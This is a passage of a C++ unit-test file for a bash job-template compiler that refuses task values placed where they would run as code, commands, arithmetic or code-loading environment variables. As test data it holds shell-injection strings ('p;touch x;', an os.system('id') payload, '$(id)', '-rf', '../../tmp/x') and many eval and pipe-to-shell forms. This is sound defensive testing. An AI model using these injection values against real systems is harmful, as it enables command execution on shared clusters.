// Where a value would become code, a command, an option or an element of a
// list: the compiler refuses the template (or types the placeholder) before
// any task is rendered. Issue classes A-D and F.
#include <gtest/gtest.h>

#include <unistd.h>

#include <cstdlib>
#include <fstream>

#include "compiler/compile.hpp"
#include "runtime/render/code_files.hpp"
#include "runtime/render/code_variables.hpp"
#include "runtime/render/escape.hpp"
#include "runtime/render/option_words.hpp"
#include "runtime/render/task_values.hpp"
#include "tests/support/temp_pattern.hpp"

namespace sg = slurmglue;

namespace {

const std::string kHead = "#!/bin/bash\n";

std::vector<std::string> rules(const std::string& body) {
  sg::compiler::Source source("t.tpl", kHead + body);
  std::vector<std::string> out;
  for (const auto& d : sg::compiler::compile(source).diagnostics)
    if (d.severity == sg::compiler::Severity::Error) out.push_back(d.rule);
  return out;
}
bool refused(const std::string& body, const std::string& rule) {
  const auto r = rules(body);
  return std::find(r.begin(), r.end(), rule) != r.end();
}

// The context of the one placeholder in `body` (which must compile).
sg::render::Placement placement(const std::string& body) {
  sg::compiler::Source source("t.tpl", kHead + body);
  const auto c = sg::compiler::compile(source);
  EXPECT_NE(c.renderer, nullptr) << body << ": " << (c.diagnostics.empty() ? "" : c.diagnostics[0].message);
  if (!c.renderer || c.renderer->program().placements.empty()) return {};
  return c.renderer->program().placements.front();
}

// Whether the renderer refuses `value` where `pl` stands (defined below).
bool refuses(const sg::render::Placement& pl, std::string_view value);

const char* const kName = "${CLEARML_TASK.name}";

std::string with(const std::string& form) {
  std::string s = form;
  for (auto at = s.find('@'); at != std::string::npos; at = s.find('@', at)) s.replace(at, 1, kName);
  return s + "\n";
}

TEST(ValueSinks, StringsParsedAgainRefuseFreeText) {
  for (const char* form : {"eval \"echo @\"", "eval echo @", "bash -c \"echo @\"", "sh -ec 'echo @'",
                           "/bin/bash -lc \"x @\"", "srun bash -c \"echo @\"", "trap 'echo @' EXIT",
                           "trap \"echo @\" EXIT", "ssh host \"ls @\"", "ssh host ls @", "sbatch --wrap=\"echo @\"",
                           "srun --wrap \"echo @\"", "alias x='echo @'", "declare -a \"a=(@)\"", "PS4='@'",
                           "export PROMPT_COMMAND=\"@\"", "python3 -c \"print('@')\"", "perl -e 'print \"@\"'",
                           "eval \"$(printf %s @)\"", "bash <<EOF\necho @\nEOF", "bash <<< \"echo @\"",
                           "ssh host <<'EOF'\n@\nEOF", "awk '{print \"@\"}'", "sed \"s/x/@/\"", "source @"}) {
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  }
}

TEST(ValueSinks, IdsMayStandInStringsParsedAgainAndStayPlainWords) {
  const auto p = placement("eval \"echo ${CLEARML_TASK.id}\"\n");
  EXPECT_TRUE(p.context.reparsed);
  EXPECT_TRUE(placement("bash -c 'echo \"$1\"' sh ${CLEARML_QUEUE_ID}\n").context.reparsed == false);
  // An id is still a task's text: wherever code is read again (a quoted
  // here-document included, 86th review), only a plain word renders.
  for (const char* form : {"eval \"echo ${CLEARML_TASK.id}\"", "srun bash -s <<'EOF'\nmkdir -p s-${CLEARML_TASK.project}\nEOF",
                           "python3 - <<'PY'\nprint(\"${CLEARML_TASK.id}\")\nPY", "bash -c 'echo ${CLEARML_TASK.id}'"}) {
    const auto pl = placement(std::string(form) + "\n");
    EXPECT_TRUE(pl.context.reparsed) << form;
    std::string out;
    bool referenced = false;
    for (const char* hostile : {"p;touch x;", "\")+__import__(\"os\").system(\"id\")#", "a b", "", "-la", "..", "-rf",
                                "a,indent=4", "/etc", "runs/../.."})
      EXPECT_NE(sg::render::place_value(hostile, pl.context, "v", out, referenced), nullptr) << form << " " << hostile;
    out.clear();
    EXPECT_EQ(sg::render::place_value("4a5b6c7d8e9f40112233445566778899", pl.context, "v", out, referenced), nullptr);
    EXPECT_EQ(out, "4a5b6c7d8e9f40112233445566778899") << form;
  }
  // A number typed with |number keeps its sign, point and exponent.
  const auto number = placement("python3 -c \"lr = ${CLEARML_TASK.hyperparams.Args.lr.value|number}\"\n");
  EXPECT_TRUE(number.context.reparsed);
  for (const char* n : {"-0.5", "1e-3", "0.001", "-.5", "+2"}) {
    std::string out;
    bool referenced = false;
    EXPECT_EQ(sg::render::place_value(n, number.context, "v", out, referenced), nullptr) << n;
  }
}

TEST(ValueSinks, PositionalParametersAndEnvironmentAreData) {
  EXPECT_TRUE(rules(with("bash -c 'echo \"$1\"' sh @")).empty());
  EXPECT_TRUE(rules(with("NAME=@ sh -c 'echo \"$NAME\"'")).empty());
  EXPECT_TRUE(rules(with("python3 train.py --name @")).empty());
  EXPECT_TRUE(rules(with("echo @ | grep x")).empty());
}

TEST(ValueSinks, AValueIsNeverTheCommand) {
  for (const char* form : {"@ --help", "\"@\" arg", "exec @", "command @ x", "srun @", "srun -N 2 @", "env A=1 @",
                           "x=1 @", "sudo -u me @", "if @; then :; fi", "echo $(@)"})
    EXPECT_TRUE(refused(with(form), "placeholder-command")) << form;
  for (const char* form : {"echo @", "srun --job-name=@ hostname", "srun -J @ hostname", "cat > @", "x=@ true",
                           "echo hi 2>@", "for x in @; do :; done", "case @ in *) ;; esac"})
    EXPECT_FALSE(refused(with(form), "placeholder-command")) << form;
}

TEST(ValueSinks, OptionPositionsAreKnown) {
  auto p = placement(with("python3 @"));
  EXPECT_TRUE(p.context.begins_argument);
  EXPECT_FALSE(p.context.after_option);
  p = placement(with("python3 \"@\""));
  EXPECT_TRUE(p.context.begins_argument);
  p = placement(with("python3 train.py --name \"@\""));
  EXPECT_TRUE(p.context.after_option);
  p = placement(with("python3 train.py -- @"));
  EXPECT_TRUE(p.context.after_option);
  p = placement(with("python3 train.py --name=@"));
  EXPECT_FALSE(p.context.begins_argument);
}

// Class B: where bash evaluates a word as arithmetic, values are integers.
TEST(ValueSinks, ArithmeticWordsAreTyped) {
  using Q = sg::render::Quoting;
  EXPECT_EQ(placement(with("[[ @ -gt 0 ]] && echo")).context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement(with("[[ 0 -lt \"@\" ]] && echo")).context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement(with("let n=@")).context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement(with("declare -i n=@")).context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement(with("(( n = @ ))")).context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement(with("[[ @ == x ]] && echo")).context.quoting, Q::Unquoted);
  EXPECT_TRUE(refused("v=x; echo \"${v@P}\" ${CLEARML_TASK.name}\n", "prompt-expansion"));
  // A compound assignment's [subscript]= is expanded, then read as
  // arithmetic ($(...) runs, PATH=0 assigns); an element is a word.
  for (const char* form : {"A=([@]=x)", "declare -a A=([\"@\"]=x [1]=y)", "A+=(a [@]=x)", "A=(\n  [@]=x\n)"})
    EXPECT_EQ(placement(with(form)).context.quoting, Q::Arithmetic) << form;
  EXPECT_EQ(placement(with("A=(x \"@\" [3]=y)")).context.quoting, Q::DoubleQuoted);
  EXPECT_EQ(placement(with("A=(x[1] @)")).context.quoting, Q::Unquoted);
}

// Class A: the lexer reads these as bash does, or refuses them.
TEST(ValueSinks, LexerReadsTheseAsBashDoes) {
  using Q = sg::render::Quoting;
  // ':' and '[' in a default word are text, not a substring offset or subscript.
  auto p = placement("echo \"${OUT:-/scratch:${DIR:-${CLEARML_TASK.name}}}\"\n");
  EXPECT_EQ(p.context.quoting, Q::DoubleQuoted);
  EXPECT_TRUE(p.context.in_parameter_expansion);
  EXPECT_EQ(placement("echo \"${A:-[${CLEARML_TASK.name}]}\"\n").context.quoting, Q::DoubleQuoted);
  EXPECT_EQ(placement("echo \"${A:1:${CLEARML_TASK.name}}\"\n").context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement("echo \"${A[${CLEARML_TASK.name}]:-x}\"\n").context.quoting, Q::Arithmetic);
  // A body line ending in '\' joins the next: "EOF" there ends nothing.
  p = placement("cat <<EOF\nline \\\nEOF\n${CLEARML_TASK.name}\nEOF\n");
  EXPECT_EQ(p.context.quoting, Q::HeredocUnquoted);
  p = placement("cat <<'EOF'\nline \\\nEOF\necho ${CLEARML_TASK.name}\n");
  EXPECT_EQ(p.context.quoting, Q::Unquoted);
  for (const char* d : {"$'EOF'", "$\"EOF\"", "$(echo EOF)", "`echo EOF`"})
    EXPECT_TRUE(refused(std::string("cat <<") + d + "\nx\nEOF\necho " + kName + "\n", "heredoc-delimiter")) << d;
  // '((' is arithmetic only where the ')' matching its second '(' is
  // followed by ')': otherwise bash reads subshells (lint hunt 48).
  for (const char* form : {"x=$((echo @) )", "x=$((cd @ && ls) | wc -l)", "((cd @ && ls) | head -n 3)",
                           "x=$((echo \")\" @) | wc -c)"})
    EXPECT_EQ(placement(with(form)).context.quoting, Q::Unquoted) << form;
  EXPECT_TRUE(refused(with("x=$((echo 1) ) @"), "placeholder-command"));
  for (const char* form : {"x=$(( (1 + @) * 2 ))", "(( (@) > 0 ))", "x=$(( $(echo \")\") + @ ))",
                           // (attack 138: quotes nested in a $(...) in quotes)
                           "(( S = \"$(grep -c \"^Epoch (\" t.log)\" * @ ))",
                           "T=$(( G * \"$(grep -c \"^Epoch (\" t.log)\" * @ ))",
                           // (fr hunt 53: parentheses that balance inside ${...} or `...`)
                           "W=$(( ${SLURM_CPUS_PER_TASK:-$(nproc)} / @ ))", "W=$(( `echo $(nproc)` / @ ))"})
    EXPECT_EQ(placement(with(form)).context.quoting, Q::Arithmetic) << form;
  // Where bash's readings differ (a parenthesis in ${...} or `...`, an
  // escaped quote in $'...' in braces), the template is refused.
  for (const char* form : {"T=$(( G * ${E:-$'\\')'} * @ ))", "(( ${a:-)} + @ ))", "x=$(( `echo )` + @ ))",
                           "x=$(( $(echo # )\n) + @ ))",
                           // (attack 139: $[...] is one word of a $(...), its ')' counted by '((')
                           "declare -A G\n(( L=$(echo $[ G[)] ]) + @ ))", "x=$(( $(echo $[ 1 ) ]) + @ ))"})
    EXPECT_TRUE(refused(with(form), "shell-syntax")) << form;
  // (attack 140: bash joins a \<newline> into '$(', '((', '))' first)
  for (const char* form : {"X=$((echo @; hostname)\\\n)", "S=$(\\\n(echo @ | tr a b))", "X=$\\\n((echo @))",
                           "echo \"x $\\\n(basename @)\"", "if [\\\n[ -n @ ]]; then :; fi"})
    EXPECT_TRUE(refused(with(form), "continued-token")) << form;
  // A continuation between words, or inside a word, joins nothing bash
  // reads apart; nor after an escaped character (lint hunt 50).
  for (const char* form : {"python3 t.py \\\n  --name @", "cmd a &&\\\n  echo @", "echo \"a long \\\nline @\"",
                           "echo \\$\\\nHOME @", "echo \\&\\\n& wait\necho @", "x=$((1+2))\\\n;echo @"})
    EXPECT_FALSE(refused(with(form), "shell-syntax")) << form;
  // ${RUN${...}}, ${RUN\<newline>${...}}: the value would finish the name or be the operator (attack 141).
  for (const char* form : {"echo \"${RUN@}\"", "echo ${RUN\\\n@}", "echo ${@}", "echo \"${RUN@@}\""})
    EXPECT_TRUE(refused(with(form), "placeholder-in-parameter-name")) << form;
  EXPECT_FALSE(refused(with("echo \"${RUN:-@}\""), "placeholder-in-parameter-name"));
  EXPECT_FALSE(refused("echo \"${MAIL:-me@${CLEARML_TASK.name}}\"\n", "placeholder-in-parameter-name"));
  EXPECT_TRUE(refused("echo \"${RUN@${CLEARML_TASK.name}}\"\n", "placeholder-in-parameter-name"));
  // Inside `...` bash drops the backslash of \$ \` \\ (and \" inside "..."):
  // the command is not what the template text seems to say.
  for (const char* form : {"L=\"`find . -name \\\"@\\\" | tail -n 1`\"", "X=\"$(echo \"`echo \\\"@\\\"`\")\"",
                           "X=`echo \"\\`echo @\\`\"`", "X=`echo \\`echo @\\``", "N=@\nX=`echo \\$N`"})
    EXPECT_TRUE(refused(with(form), "backquote-escape")) << form;
  // Plain backquotes, and \" outside "...", which bash keeps as it is.
  for (const char* form : {"X=`echo \"@\"`", "X=\"`date +%s` @\"", "X=`echo \\\"@\\\"`"})
    EXPECT_FALSE(refused(with(form), "backquote-escape")) << form;
  // A here-document opened in a substitution after another on the same
  // line: bash reads the substitution's body first.
  for (const char* form : {"cat <<'A' ; echo \"$(cat <<B)\"\nl @\nA\nl2\nB", "cat <<A ; diff <(cat <<B) x\n@\nA\nb\nB"})
    EXPECT_TRUE(refused(with(form), "heredoc-order")) << form;
  for (const char* form : {"X=$(cat <<EOF\nv @\nEOF\n)", "cat <<A; cat <<B\n@\nA\nb\nB"})
    EXPECT_FALSE(refused(with(form), "heredoc-order")) << form;
}

TEST(ValueSinks, ScriptFrame) {
  sg::compiler::Source sh("t.tpl", "#!/bin/sh\necho hi\n");
  EXPECT_FALSE(sg::compiler::compile(sh).renderer);
  sg::compiler::Source env("t.tpl", "#!/usr/bin/env bash\necho hi\n");
  EXPECT_TRUE(sg::compiler::compile(env).renderer);
  sg::compiler::Source shebang("t.tpl", "#!/bin/bash ${CLEARML_TASK.name}\necho hi\n");
  EXPECT_FALSE(sg::compiler::compile(shebang).renderer);
  EXPECT_TRUE(refused("__slurmglue_1=x\n", "reserved-name"));
  EXPECT_TRUE(refused("echo ${__slurmglue_2}\n", "reserved-name"));
}

// Options on the #! line that change how bash reads values are refused as
// the same options set in the script are; env's own options are not bash's.
TEST(ValueSinks, ShebangOptions) {
  const auto errors = [](const std::string& shebang) {
    sg::compiler::Source source("t.tpl", shebang + "\necho \"${CLEARML_TASK.name}\"\n");
    std::vector<std::string> out;
    for (const auto& d : sg::compiler::compile(source).diagnostics)
      if (d.severity == sg::compiler::Severity::Error) out.push_back(d.rule);
    return out;
  };
  using V = std::vector<std::string>;
  for (const char* line : {"#!/bin/bash -k", "#!/bin/bash -ek", "#!/usr/bin/env -S bash -o keyword"})
    EXPECT_EQ(errors(line), V{"keyword-mode"}) << line;
  for (const char* line : {"#!/bin/bash -O compat31", "#!/bin/bash -O cdable_vars", "#!/usr/bin/env -S bash -Ocompat42"})
    EXPECT_EQ(errors(line), V{"unmodeled-shell-option"}) << line;
  for (const char* line : {"#!/bin/bash -e", "#!/bin/bash -O extglob", "#!/usr/bin/env -i bash", "#!/bin/bash --login"})
    EXPECT_EQ(errors(line), V{}) << line;
}

TEST(ValueSinks, DeclarationBuiltinsNeverTakeANameFromAValue) {
  for (const char* line : {"export ${CLEARML_TASK.name}\n", "declare -a ${CLEARML_TASK.name}\n",
                           "local \"${CLEARML_TASK.name}\"\n", "readonly x${CLEARML_TASK.name}=1\n",
                           "typeset -x ${CLEARML_TASK.name}=1\n"})
    EXPECT_TRUE(refused(line, "value-parsed-as-code")) << line;
  for (const char* line : {"export NAME=${CLEARML_TASK.name}\n", "declare -r LR=\"${CLEARML_TASK.name}\"\n",
                           "local a=${CLEARML_TASK.name} b\n"})
    EXPECT_FALSE(refused(line, "value-parsed-as-code")) << line;
}

TEST(ValueSinks, SecretsAreNeverValues) {
  for (const char* p : {"${CLEARML_CONFIG.api.credentials.secret_key}", "${CLEARML_CONFIG.api.credentials}",
                        "${CLEARML_USER_VAULTS.aws.secret}", "${CLEARML_CONFIG.sdk.aws.s3.key.access_key}",
                        "${CLEARML_PROVIDERS_INFO.github.token}", "${CLEARML_CONFIG.db.password:x}"})
    EXPECT_TRUE(refused(std::string("echo ") + p + "\n", "secret-value")) << p;
  EXPECT_FALSE(refused("echo ${CLEARML_CONFIG.api.api_server}\n", "secret-value"));
}

// Class F: the part of a list-valued or path option a placeholder fills.
TEST(ValueSinks, ListAndPathOptionsKnowThePartAPlaceholderFills) {
  using R = sg::render::ElementRole;
  EXPECT_EQ(placement("#SBATCH --container-mounts=/datasets/${CLEARML_TASK.name}:/data:ro\necho\n").roles, sg::render::ElementRoles(R::Mount));
  // (N is in the job's environment too, under a name no rule knows.)
  auto exported = sg::render::ElementRoles(R::ExportValue);
  exported.add(R::Environment);
  EXPECT_EQ(placement("#SBATCH --export=ALL,N=${CLEARML_TASK.name}\necho\n").roles, exported);
  EXPECT_EQ(placement("#SBATCH --export=ALL,${CLEARML_TASK.name}\necho\n").roles, sg::render::ElementRoles(R::ExportName));
  EXPECT_EQ(placement("#SBATCH --container-env=${CLEARML_TASK.name}\necho\n").roles, sg::render::ElementRoles(R::Name));
  auto step_file = sg::render::ElementRoles(R::Path);
  step_file.add(R::StepFileName);
  EXPECT_EQ(placement("#SBATCH --output=logs/${CLEARML_TASK.name}.log\necho\n").roles, step_file);
  EXPECT_EQ(placement("#SBATCH -o logs/${CLEARML_TASK.name}.log\necho\n").roles, step_file);
  EXPECT_EQ(placement("#SBATCH --chdir ${CLEARML_TASK.name}\necho\n").roles, sg::render::ElementRoles(R::CodePath));  // the working directory: named as code is
  EXPECT_EQ(placement("srun --container-mounts=\"/d/${CLEARML_TASK.name}:/data\" true\n").roles, sg::render::ElementRoles(R::Mount));
  EXPECT_EQ(placement("#SBATCH --comment=${CLEARML_TASK.name}\necho\n").roles, sg::render::ElementRoles());
  // A job name is in a path only where %x puts it there.
  EXPECT_EQ(placement("#SBATCH --job-name=${CLEARML_TASK.name}\n#SBATCH --output=%x-%j.log\necho\n").roles,
            sg::render::ElementRoles(R::JobName));
  EXPECT_EQ(placement("#SBATCH --job-name=${CLEARML_TASK.name}\n#SBATCH --output=%j.log\necho\n").roles,
            sg::render::ElementRoles(R::JobText));
  EXPECT_EQ(sg::render::check_element(R::JobText, "bert/squad v2"), nullptr);
  // Slurm reads a width in a pattern and ignores it for the job name: %8x is %x.
  EXPECT_EQ(placement("#SBATCH --job-name=${CLEARML_TASK.name}\n#SBATCH --output=logs/%8x-%j.out\necho\n").roles,
            sg::render::ElementRoles(R::JobName));
  EXPECT_NE(sg::render::check_element(R::JobText, "a[$(id)]"), nullptr);
  EXPECT_TRUE(refused("#SBATCH --export=ALL,LD_PRELOAD=${CLEARML_TASK.name}\necho\n", "value-parsed-as-code"));
  EXPECT_EQ(sg::render::check_element(R::JobName, "train-1.2"), nullptr);
  EXPECT_NE(sg::render::check_element(R::JobName, "../../tmp/x"), nullptr);
}

}  // namespace

namespace {

// Standard input that a program runs: here-documents, here-strings and
// earlier pipeline stages feeding a shell, an interpreter, sbatch, at, ...
TEST(ValueSinks, InputReadAsCodeRefusesFreeText) {
  for (const char* form :
       {"cat <<'EOF' | bash\n@\nEOF", "( cat <<'E' ) | bash\n@\nE", "{ cat <<'E'\n@\nE\n} | sh",
        "source <(cat <<'E'\n@\nE\n)", "bash <(echo \"@\")", "bash < <(echo \"@\")",
        "f() { bash \"$@\"; }\nf <<'E'\n@\nE", "g() { \"$@\"; }\ng bash <<'E'\n@\nE", "sbatch <<'E'\n#!/bin/bash\n@\nE",
        "source /dev/stdin <<'E'\n@\nE", "at now <<'E'\n@\nE", "awk -f - <<'E'\n@\nE", "crontab - <<'E'\n@\nE",
        "gdb -x /dev/stdin <<'E'\n@\nE", "echo \"@\" | bash", "echo @ | python3 -", "printf '%s' \"@\" | sh -s",
        "xargs -0 bash -c <<< \"@\"", "echo @ | while read -r l; do eval \"$l\"; done", "echo @ | ssh host",
        "srun bash <<'E'\n@\nE", "timeout 60 bash <<'E'\n@\nE", "echo @ | sudo -s",
        "while read -r l; do bash; done <<'E'\n@\nE"})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  for (const char* form : {"cat <<'EOF' > out.txt\n@\nEOF", "echo @ | grep x", "cat <<EOF | tee log\n@\nEOF",
                           "python3 train.py <<EOF\n@\nEOF", "bash run.sh <<'E'\n@\nE", "echo @\nbash",
                           "echo @ && bash run.sh", "cat <<'E' | bash -c 'cat > f'\n@\nE", "xargs -0 <<< \"@\""})
    EXPECT_FALSE(refused(with(form), "value-parsed-as-code")) << form;
}

// A runner's options are read by their argument counts: the value is never
// the command it runs, and an option it does not know makes that unclear.
TEST(ValueSinks, RunnersNeverRunAValue) {
  for (const char* form : {"srun -l @", "srun --label @ x", "timeout 3600 @", "timeout -s KILL 60 @",
                           "singularity exec img.sif @", "apptainer exec --nv img.sif @", "env -i @", "env -u X @",
                           "xargs -I{} @ {}", "find . -exec @ {} \\;", "taskset -c 0-3 @", "mpirun -np 4 @",
                           "srun --not-an-option @", "nice -n 5 @", "chroot /x @", "flock /tmp/l @",
                           "sudo -u bob @", "conda run -n env @", "docker run --rm img @", "numactl -N 0 @",
                           "stdbuf -oL @", "nohup @", "setsid -w @", "exec -a name @"})
    EXPECT_TRUE(refused(with(form), "placeholder-command")) << form;
  for (const char* form : {"srun -J @ hostname", "timeout @ python3 x.py", "singularity exec @ python3 x.py",
                           "srun --container-image=@ true", "env A=@ python3 x.py", "nice -n @ python3 x.py",
                           "mpirun -np @ ./a.out", "srun -l python3 x.py @"})
    EXPECT_FALSE(refused(with(form), "placeholder-command")) << form;
  // An argument list stands among srun's options, never as its command.
  EXPECT_TRUE(rules("srun ${CLEARML_TASK.container.arguments} python3 x.py\n").empty());
  EXPECT_TRUE(refused("flock /tmp/l -c \"echo ${CLEARML_TASK.name}\"\n", "value-parsed-as-code"));
  EXPECT_TRUE(refused("env -S \"${CLEARML_TASK.name}\" true\n", "value-parsed-as-code"));
  EXPECT_TRUE(refused("watch -n 5 echo ${CLEARML_TASK.name}\n", "value-parsed-as-code"));
}

// A value after an option that takes no argument begins an operand: it may
// not start with '-' (python3 -u -c...).
TEST(ValueSinks, KnownFlagsTakeNoValue) {
  EXPECT_FALSE(placement(with("python3 -u @ x.py")).context.after_option);
  EXPECT_FALSE(placement(with("bash -x @")).context.after_option);
  EXPECT_TRUE(placement(with("python3 -W @ x.py")).context.option_takes_value);
  EXPECT_TRUE(placement(with("srun -J @ hostname")).context.option_takes_value);
  EXPECT_TRUE(placement(with("timeout -s @ 60 x")).context.option_takes_value);
  // A script's own options: unknown argument counts, only numbers may start with '-'.
  auto p = placement(with("python3 x.py --lr @"));
  EXPECT_TRUE(p.context.after_option);
  EXPECT_FALSE(p.context.option_takes_value);
  p = placement(with("git clone --recursive @ dir"));
  EXPECT_TRUE(p.context.after_option);
  EXPECT_FALSE(p.context.option_takes_value);
  // After "--" and among printf's operands every word is an operand.
  EXPECT_TRUE(placement(with("git clone -- @ dir")).context.option_takes_value);
  EXPECT_TRUE(placement(with("printf '<%s>' @")).context.option_takes_value);
}

// Values reach sinks through shell variables and function parameters too.
TEST(ValueSinks, ValuesAreFollowedThroughVariables) {
  for (const char* form : {"L=\"@\"\ntrap \"echo $L\" EXIT", "L=@\nsh -c \"echo $L\"", "L=@\neval \"x=$L\"",
                           "f() { sh -c \"echo $1\"; }\nf \"@\"", "L=@\nPROMPT_COMMAND=\"$L\"",
                           "read -r L <<< \"@\"\neval \"$L\"", "for L in @; do eval \"$L\"; done",
                           "printf -v L '%s' \"@\"\neval \"$L\"", "A=@\nB=\"x $A\"\neval \"$B\"",
                           "L=@\nbash <<EOF\necho $L\nEOF", "set -- @\neval \"$1\"", "L=$(echo @)\neval \"$L\"",
                           "export L=@\nssh host \"$L\""})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(refused(with("L=@\n$L --help"), "placeholder-command"));
  for (const char* form : {"L=@\nsh -c 'echo \"$L\"'", "L=@\necho \"$L\"", "L=@\ntrap 'echo \"$L\"' EXIT",
                           "L=@\neval 'echo \"$L\"'", "f() { echo \"$1\"; }\nf \"@\"",
                           // (The file a trap's action writes is no name of the action; attack 205.)
                           "L=@\ntrap 'echo \"job $L done\" >> /scratch/x/done.log' EXIT",
                           // (Nor of any code string's: eval, sh -c, su -c, flock -c, --wrap.)
                           "export L=@\neval 'echo \"job $L done\" >> /scratch/x/done.log'",
                           "export L=@\nbash -lc 'echo \"job $L done\" >> /scratch/x/done.log'",
                           "export L=@\nsrun bash -c 'echo \"job $L done\" >> /scratch/x/done.log'",
                           "export L=@\nflock /tmp/lock -c 'echo \"job $L\" >> /scratch/x/done.log'",
                           "export L=@\nbash <<< 'echo \"$L\"'"})
    EXPECT_TRUE(rules(with(form)).empty()) << form;
  for (const char* form : {"L=@\necho \"$L\" > done.log\ntrap 'source done.log' EXIT",
                           "L=@\ntrap 'echo \"$L\" > run.sh; bash run.sh' EXIT", "trap \"echo @ >> done.log\" EXIT",
                           "L=@\necho \"$L\" > done.log\neval 'source /scratch/x/done.log'",
                           "L=@\necho \"$L\" > done.sh\nbash -c 'bash /scratch/x/done.sh'",
                           "L=@\necho \"$L\" > done.sh\nbash -c /scratch/x/done.sh",
                           "L=@\necho \"$L\" > done.sh\nsu -c /scratch/x/done.sh user",
                           "export L=@\nbash -c 'echo \"$L\" > run.sh; source run.sh'",
                           // (A here-string the template writes out, fed to a shell; attack 209.)
                           "export L=@\nbash <<< 'eval \"$L\"'", "export L=@\nsrun bash <<< 'echo \"$L\" > s.sh; bash s.sh'",
                           "echo \"@\" > notes.txt\nbash <<< 'source notes.txt'"})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(refuses(placement(with("export E=\"@\"\nsrun bash <<< 'exec python3 -u \"$E\"'")), "-cimport os"));
}

// Class B through variables: a value that reaches arithmetic, a subscript or
// ${!name} is an integer, even when stored or combined first.
TEST(ValueSinks, StoredValuesReachingArithmeticAreIntegers) {
  using Q = sg::render::Quoting;
  for (const char* form : {"V=\"@\"\n[[ $V -gt 1 ]]", "N=@\n(( N > 0 ))", "KEY=\"R[@]\"\necho \"${!KEY}\"",
                           "KEY=\"R[@]\"\n[[ -v $KEY ]]", "A=\"@\"\nV=\"${A}x\"\necho $(( V ))",
                           "N=@\narr[N]=1", "N=@\necho \"${s:$N}\"", "declare -i N\nN=@\nM=@\nlet \"M+=1\"",
                           // Bash's own integer variables evaluate what they are given.
                           "RANDOM=@", "SRANDOM=$((1))\nS=@\nSRANDOM=$S", "export OPTIND=@", "read HISTCMD <<< \"@\"",
                           "SECONDS=\"@\"", "printf -v RANDOM %s \"@\"",
                           // A bare name in a subscript written as text, which bash
                           // evaluates where it takes the text as a variable's name.
                           "N=@\ntest -v \"A[N]\"", "N=@\nprintf -v \"A[N]\" x", "N=@\nread -r A[N] <<< 1",
                           "N=@\nref=\"A[N]\"\necho \"${!ref}\"", "N=@\ndeclare \"A[N]=1\"", "N=@\nexec {A[N]}>/dev/null",
                           "N=@\ndeclare -n r=A[N]\necho \"$r\"", "N=@\ntest -v \"A[B[N]]\"",
                           "N=@\ndeclare -A P\ntest -v \"P[B[N]]\"", "N=@\ntest -v \"A[ [x] N]\"", "N=@\nx=$(cat <<EOF\nA[N]\nEOF\n)\necho \"${!x}\""})
    EXPECT_EQ(placement(with(form)).context.quoting, Q::Arithmetic) << form;
  for (const char* form : {"N=@\necho \"${#N}\"", "N=@\necho \"run[$N]\"", "N=@\necho \"log[INFO] x\"",
                           "N=@\ndeclare -A P\ntest -v \"P[N]\"", "N=@\ntest -v \"A[x] N\"", "N=@\ntest -v \"$A[N]\""})
    EXPECT_EQ(placement(with(form)).context.quoting, Q::Unquoted) << form;
}

// Variables that other programs run or load as code (class D/B9).
TEST(ValueSinks, EnvironmentThatRunsCodeIsRefused) {
  for (const char* form : {"export LD_PRELOAD=@", "PATH=@ python3 x.py", "GIT_SSH_COMMAND=\"@\" git clone x",
                           "env NODE_OPTIONS=@ node x.js", "export PYTHONPATH=\"/opt:@\"", "IFS=@ read a",
                           "declare -x BASH_ENV=@", "PIP_INDEX_URL=@ pip install x", "export OLDPWD=@\ncd -",
                           "PWD=@\ncd ..", "BASH_ARGV0=@\nsource \"$(dirname \"$0\")/lib.sh\"",
                           "export XDG_RUNTIME_DIR=@\npodman run img", "export LOCALDOMAIN=@"})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  EXPECT_FALSE(refused(with("export WANDB_PROJECT=@"), "value-parsed-as-code"));
}

}  // namespace

namespace {

// A file the template writes and then runs, sources, or reads back.
TEST(ValueSinks, FilesWrittenThenRunCarryTheirValues) {
  for (const char* form : {"cat > job.sh <<EOF\npython3 x.py --name \"@\"\nEOF\nbash job.sh",
                           "cat > job.sh <<'EOF'\n@\nEOF\nchmod +x job.sh\n./job.sh",
                           "echo \"x \\\"@\\\"\" > run.sh\nsource run.sh", "echo \"@\" >> env.sh\n. ./env.sh",
                           "tee run.sh <<EOF\n@\nEOF\nsrun bash run.sh", "printf '%s\\n' \"@\" > t.py\npython3 t.py",
                           "{ echo \"@\"; } > s.sh\nbash s.sh", "echo \"@\" > s.sh\ncat s.sh | bash",
                           "echo \"@\" > s.sh\nbash < s.sh"})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  using Q = sg::render::Quoting;
  EXPECT_EQ(placement(with("cat > p.txt <<EOF\n@\nEOF\nread -r N < p.txt\n[[ $N -gt 10 ]]")).context.quoting,
            Q::Arithmetic);
  EXPECT_EQ(placement(with("cat > p.txt <<'EOF'\n@\nEOF\nN=$(cat p.txt)\n(( N > 1 ))")).context.quoting,
            Q::Arithmetic);
  for (const char* form : {"echo \"@\" > notes.txt\ncat notes.txt", "cat > cfg.yaml <<EOF\nname: @\nEOF\n"
                                                                     "python3 train.py --config cfg.yaml"})
    EXPECT_TRUE(rules(with(form)).empty()) << form;
}

// Code strings the template writes are read as shell too: what they do with
// the variables and parameters they get.
TEST(ValueSinks, CodeStringsAreReadAsShell) {
  for (const char* form : {"export L=@\nsrun bash -c 'eval \"$L\"'", "bash -c 'eval \"$1\"' sh \"@\"",
                           "export L=@\nbash <<'EOF'\neval \"$L\"\nEOF", "L=@\ntrap 'eval \"$L\"' EXIT",
                           "export L=@\nsbatch --wrap='eval \"$L\"'", "export L=@\nsu bob -c 'sh -c \"$L\"'"})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  for (const char* form : {"export L=@\nbash -c 'echo \"$L\"'", "bash -c 'printf \"%s\" \"$1\"' sh \"@\""})
    EXPECT_TRUE(rules(with(form)).empty()) << form;
}

// The last line counts even without a line break.
TEST(ValueSinks, ALastLineWithoutLineBreakIsRead) {
